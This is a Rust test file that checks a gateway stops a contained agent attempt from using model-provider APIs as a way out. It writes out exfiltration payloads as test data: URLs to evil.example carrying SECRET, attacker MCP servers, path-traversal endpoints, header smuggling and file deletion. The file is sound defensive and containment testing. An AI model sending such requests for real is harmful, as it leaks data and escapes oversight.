//! The model API as a way out: everything by which a provider would fetch, connect, keep or run something for an attempt.
//! The refusal must name what it refuses, and the same request without that must be answered: else another fault of the
//! request would do. The control: the same request past the gateway, which the provider takes.

use std::collections::BTreeSet;

use serde_json::Value;

use super::{
    Family, Row,
    door::{Case, Door, KEY, key, play, post, send},
};

pub(crate) fn family() -> Family {
    let row = |attack: &Attack| Row {
        tried: attack.tried.to_owned(),
        by: attack.by.to_owned(),
        control: "past the gateway, the provider takes it".to_owned(),
    };
    let mut rows: Vec<Row> = ATTACKS.iter().map(row).collect();
    rows.extend(TOKENS.iter().map(Case::row));
    Family {
        name: "The model's API",
        how: "Requests of an attempt to the real gateway, before a provider that takes whatever it is sent.",
        rows,
    }
}

struct Attack {
    tried: &'static str,
    by: &'static str,
    method: &'static str,
    path: &'static str,
    headers: &'static str,
    body: &'static str,
    /// What the provider must not get.
    mark: &'static str,
}

const MESSAGES: &str = "/v1/messages";
const RESPONSES: &str = "/v1/responses";
const CHAT: &str = "/v1/chat/completions";
const TOOLS: &str = "an allow-list of kinds of tools";
const FIELDS: &str = "an allow-list of fields";
const CONTENT: &str = "an allow-list of content; nothing is fetched for an attempt";
const ENDPOINTS: &str = "an allow-list of endpoints";

const fn attack(
    tried: &'static str,
    by: &'static str,
    path: &'static str,
    body: &'static str,
    mark: &'static str,
) -> Attack {
    Attack {
        tried,
        by,
        method: "POST",
        path,
        headers: "",
        body,
        mark,
    }
}

const ATTACKS: &[Attack] = &[
    attack(
        "searching the web at the provider (Messages)",
        TOOLS,
        MESSAGES,
        r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":"x"}],"tools":[{"type":"web_search_20250305","name":"web_search"}]}"#,
        "web_search",
    ),
    attack(
        "fetching a page at the provider",
        TOOLS,
        MESSAGES,
        r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":"x"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}"#,
        "web_fetch",
    ),
    attack(
        "running code at the provider",
        TOOLS,
        MESSAGES,
        r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":"x"}],"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}"#,
        "code_execution",
    ),
    attack(
        "a server of its own that the provider connects to (MCP)",
        FIELDS,
        MESSAGES,
        r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":"x"}],"mcp_servers":[{"type":"url","url":"https://evil.example","name":"x"}]}"#,
        "evil.example",
    ),
    attack(
        "a container that is kept at the provider",
        FIELDS,
        MESSAGES,
        r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":"x"}],"container":"container_1"}"#,
        "container_1",
    ),
    attack(
        "an image from an address (Messages)",
        CONTENT,
        MESSAGES,
        r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?d=SECRET"}}]}]}"#,
        "evil.example",
    ),
    attack(
        "a document from an address",
        CONTENT,
        MESSAGES,
        r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://evil.example/?d=SECRET"}}]}]}"#,
        "evil.example",
    ),
    attack(
        "a file that was left at the provider",
        CONTENT,
        MESSAGES,
        r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"file_1"}}]}]}"#,
        "file_1",
    ),
    attack(
        "an address in the result of a tool",
        CONTENT,
        MESSAGES,
        r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"https://evil.example"}}]}]}]}"#,
        "evil.example",
    ),
    attack(
        "a made-up call of one of the provider's own tools",
        CONTENT,
        MESSAGES,
        r#"{"model":"ours","max_tokens":9,"messages":[{"role":"assistant","content":[{"type":"server_tool_use","id":"s","name":"web_fetch","input":{"url":"https://evil.example"}}]}]}"#,
        "evil.example",
    ),
    attack(
        "data in the account of the call (`metadata`)",
        FIELDS,
        MESSAGES,
        r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":"x"}],"metadata":{"user_id":"a","note":"SECRET"}}"#,
        "SECRET",
    ),
    attack(
        "a field that is not known yet",
        FIELDS,
        MESSAGES,
        r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":"x"}],"callback":"https://evil.example"}"#,
        "evil.example",
    ),
    Attack {
        headers: "anthropic-beta: files-api-2025-04-14\r\n",
        ..attack(
            "features behind a header (`anthropic-beta`)",
            "headers are made anew",
            MESSAGES,
            r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":"x"}]}"#,
            "files-api",
        )
    },
    Attack {
        headers: "openai-organization: org-mallory\r\n",
        ..attack(
            "another account by a header",
            "headers are made anew",
            RESPONSES,
            r#"{"model":"other","input":"x","max_output_tokens":9}"#,
            "org-mallory",
        )
    },
    attack(
        "searching the web at the provider (Responses)",
        TOOLS,
        RESPONSES,
        r#"{"model":"other","input":"x","max_output_tokens":9,"tools":[{"type":"web_search_preview"}]}"#,
        "web_search",
    ),
    attack(
        "searching files kept at the provider",
        TOOLS,
        RESPONSES,
        r#"{"model":"other","input":"x","max_output_tokens":9,"tools":[{"type":"file_search","vector_store_ids":["vs_1"]}]}"#,
        "file_search",
    ),
    attack(
        "an interpreter at the provider",
        TOOLS,
        RESPONSES,
        r#"{"model":"other","input":"x","max_output_tokens":9,"tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}"#,
        "code_interpreter",
    ),
    attack(
        "a server of its own as a tool",
        TOOLS,
        RESPONSES,
        r#"{"model":"other","input":"x","max_output_tokens":9,"tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.example"}]}"#,
        "evil.example",
    ),
    attack(
        "a computer at the provider",
        TOOLS,
        RESPONSES,
        r#"{"model":"other","input":"x","max_output_tokens":9,"tools":[{"type":"computer_use_preview","display_width":9,"display_height":9,"environment":"browser"}]}"#,
        "computer_use",
    ),
    attack(
        "images made at the provider",
        TOOLS,
        RESPONSES,
        r#"{"model":"other","input":"x","max_output_tokens":9,"tools":[{"type":"image_generation"}]}"#,
        "image_generation",
    ),
    attack(
        "a tool of the provider's by choosing it",
        TOOLS,
        RESPONSES,
        r#"{"model":"other","input":"x","max_output_tokens":9,"tool_choice":{"type":"web_search_preview"}}"#,
        "web_search",
    ),
    attack(
        "keeping an answer at the provider (`store`)",
        FIELDS,
        RESPONSES,
        r#"{"model":"other","input":"x","max_output_tokens":9,"store":true}"#,
        "\"store\":true",
    ),
    attack(
        "the same by silence, which means yes",
        "`store` is written as false",
        RESPONSES,
        r#"{"model":"other","input":"kept-by-silence","max_output_tokens":9}"#,
        SILENCE,
    ),
    attack(
        "work that goes on when nobody listens (`background`)",
        FIELDS,
        RESPONSES,
        r#"{"model":"other","input":"x","max_output_tokens":9,"background":true}"#,
        "background",
    ),
    attack(
        "another attempt's answer (`previous_response_id`)",
        FIELDS,
        RESPONSES,
        r#"{"model":"other","input":"x","max_output_tokens":9,"previous_response_id":"resp_1"}"#,
        "resp_1",
    ),
    attack(
        "a conversation kept at the provider",
        FIELDS,
        RESPONSES,
        r#"{"model":"other","input":"x","max_output_tokens":9,"conversation":"conv_1"}"#,
        "conv_1",
    ),
    attack(
        "a prompt kept at the provider",
        FIELDS,
        RESPONSES,
        r#"{"model":"other","input":"x","max_output_tokens":9,"prompt":{"id":"pmpt_1"}}"#,
        "pmpt_1",
    ),
    attack(
        "an image from an address (Responses)",
        CONTENT,
        RESPONSES,
        r#"{"model":"other","max_output_tokens":9,"input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/?d=SECRET"}]}]}"#,
        "evil.example",
    ),
    attack(
        "a file from an address (Responses)",
        CONTENT,
        RESPONSES,
        r#"{"model":"other","max_output_tokens":9,"input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example"}]}]}"#,
        "evil.example",
    ),
    attack(
        "an item kept at the provider, by its name",
        CONTENT,
        RESPONSES,
        r#"{"model":"other","max_output_tokens":9,"input":[{"type":"item_reference","id":"item_1"}]}"#,
        "item_1",
    ),
    attack(
        "searching the web at the provider (Chat Completions)",
        FIELDS,
        CHAT,
        r#"{"model":"other","max_completion_tokens":9,"messages":[{"role":"user","content":"x"}],"web_search_options":{}}"#,
        "web_search",
    ),
    attack(
        "an image from an address (Chat Completions)",
        CONTENT,
        CHAT,
        r#"{"model":"other","max_completion_tokens":9,"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example"}}]}]}"#,
        "evil.example",
    ),
    attack(
        "the model's file store as a drop (`/v1/files`)",
        ENDPOINTS,
        "/v1/files",
        r#"{"drop":"SECRET"}"#,
        "SECRET",
    ),
    attack(
        "a batch, which runs for a day",
        ENDPOINTS,
        "/v1/messages/batches",
        r#"{"requests":[{"custom_id":"SECRET"}]}"#,
        "SECRET",
    ),
    attack(
        "another endpoint by a path that folds up",
        ENDPOINTS,
        "/v1/messages/../files",
        r#"{"drop":"SECRET"}"#,
        "SECRET",
    ),
    attack(
        "the same with the dots written out",
        ENDPOINTS,
        "/v1/%66iles",
        r#"{"drop":"SECRET"}"#,
        "SECRET",
    ),
    attack(
        "another endpoint by an address in the place of a path",
        ENDPOINTS,
        "http://evil.example/v1/files",
        r#"{"drop":"SECRET"}"#,
        "SECRET",
    ),
    Attack {
        method: "DELETE",
        ..attack(
            "removing what the account has",
            ENDPOINTS,
            "/v1/files/file_1",
            "",
            "file_1",
        )
    },
];

/// Stands for: the provider is not told that nothing is to be kept.
const SILENCE: &str = "{silence}";

/// The request that an attack is made of, without what it is refused for.
fn innocent(path: &str) -> Option<&'static str> {
    match path {
        MESSAGES => {
            Some(r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":"innocent"}]}"#)
        }
        RESPONSES => Some(r#"{"model":"other","max_output_tokens":9,"input":"innocent"}"#),
        CHAT => Some(
            r#"{"model":"other","max_completion_tokens":9,"messages":[{"role":"user","content":"innocent"}]}"#,
        ),
        _ => None,
    }
}

/// The names of fields, and the texts, of a JSON text.
fn words(json: &str) -> BTreeSet<String> {
    fn gather(value: &Value, words: &mut BTreeSet<String>) {
        match value {
            Value::String(text) => drop(words.insert(text.clone())),
            Value::Array(list) => list.iter().for_each(|one| gather(one, words)),
            Value::Object(map) => map.iter().for_each(|(key, one)| {
                words.insert(key.clone());
                gather(one, words);
            }),
            _ => {}
        }
    }
    let mut found = BTreeSet::new();
    gather(&serde_json::from_str(json).unwrap_or_default(), &mut found);
    found
}

/// What is wrong with an answer; nothing, if it is the one that the attack must get.
fn misses(attack: &Attack, status: u16, said: &str) -> Option<String> {
    let well = match innocent(attack.path) {
        None => status == 404 && said.contains("and nothing else"),
        // Nothing is refused: what would do harm is left out.
        Some(_) if !attack.headers.is_empty() || attack.mark == SILENCE => status == 200,
        Some(innocent) => {
            let own = &words(attack.body) - &words(innocent);
            let is_named = own.iter().any(|word| said.contains(&format!("{word}`")));
            status == 400 && (is_named || said.contains("must hold its picture itself"))
        }
    };
    (!well).then(|| format!("ANOTHER REFUSAL: {}: {status} {said}", attack.tried))
}

#[tokio::test]
async fn the_models_api_is_no_way_out() {
    let door = Door::open().await;
    let token = door.admit("a");
    for path in [MESSAGES, RESPONSES, CHAT] {
        let body = innocent(path).unwrap_or_default();
        let (status, said) = post(&door.place(), path, &key(token.expose()), body).await;
        assert!(status == 200 && door.came("innocent"), "{path}: {status} {said}");
    }
    let mut wrong = Vec::new();
    for attack in ATTACKS {
        let headers = format!("{}{}", key(token.expose()), attack.headers);
        let took = |door: &Door| match attack.mark {
            SILENCE => !door.came("\"store\":false"),
            mark => door.came(mark),
        };
        let (status, said) = send(&door.place(), attack.method, attack.path, &headers, attack.body).await;
        wrong.extend(misses(attack, status, &said));
        assert!(!took(&door), "NOT STOPPED: {}", attack.tried);
        let headers = format!("{}{}", key(KEY), attack.headers);
        send(&door.provider, attack.method, attack.path, &headers, attack.body).await;
        assert!(took(&door), "NO HARM IN THE CONTROL: {}", attack.tried);
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

const BODY: &str = r#"{"model":"ours","max_tokens":9,"messages":[{"role":"user","content":"hello"}]}"#;
const BY_ONE: &str = "tokens are admitted one by one";
const ANSWERED: &str = "with an admitted one, it is answered";

/// Whether the gateway answers, and the provider hears of it.
async fn is_answered(door: &Door, headers: &str) -> bool {
    let (status, _) = post(&door.place(), MESSAGES, headers, BODY).await;
    let came = door.came("hello");
    status == 200 && came
}

async fn admitted(door: &Door, headers: &str) -> (bool, bool) {
    let token = door.admit("a");
    let stopped = !is_answered(door, headers).await;
    (stopped, is_answered(door, &key(token.expose())).await)
}

const TOKENS: &[Case] = &[
    Case {
        tried: "asking without a token",
        by: BY_ONE,
        control: ANSWERED,
        play: |door| Box::pin(admitted(door, "")),
    },
    Case {
        tried: "asking with a token that was made up",
        by: BY_ONE,
        control: ANSWERED,
        play: |door| Box::pin(admitted(door, "x-api-key: loops-0000\r\n")),
    },
    Case {
        tried: "asking with the provider's own key",
        by: "the gateway takes tokens only",
        control: "past the gateway, the key is taken",
        play: |door| {
            Box::pin(async {
                let stopped = !is_answered(door, &key(KEY)).await;
                post(&door.provider, MESSAGES, &key(KEY), BODY).await;
                (stopped, door.came("hello"))
            })
        },
    },
    Case {
        tried: "asking on after the attempt has ended",
        by: "a token ends with its attempt",
        control: "before its end, it is answered",
        play: |door| {
            Box::pin(async {
                let token = door.admit("a");
                let harm = is_answered(door, &key(token.expose())).await;
                door.gateway.dismiss(&token);
                (!is_answered(door, &key(token.expose())).await, harm)
            })
        },
    },
    Case {
        tried: "seeing the key in what the provider echoes",
        by: "nothing of the provider's headers goes on but a few",
        control: "the provider does get it, and past the gateway it would be the attempt's",
        play: |door| {
            Box::pin(async {
                let token = door.admit("a");
                let (_, said) = post(&door.place(), MESSAGES, &key(token.expose()), BODY).await;
                (!said.contains(KEY), door.came(KEY))
            })
        },
    },
    Case {
        tried: "sending its token on to the provider",
        by: "headers are made anew",
        control: "past the gateway, it arrives",
        play: |door| {
            Box::pin(async {
                let token = door.admit("a");
                post(&door.place(), MESSAGES, &key(token.expose()), BODY).await;
                let stopped = !door.came(token.expose());
                post(&door.provider, MESSAGES, &key(token.expose()), BODY).await;
                (stopped, door.came(token.expose()))
            })
        },
    },
];

#[tokio::test]
async fn nobody_asks_who_was_not_admitted() {
    play(TOKENS).await;
}
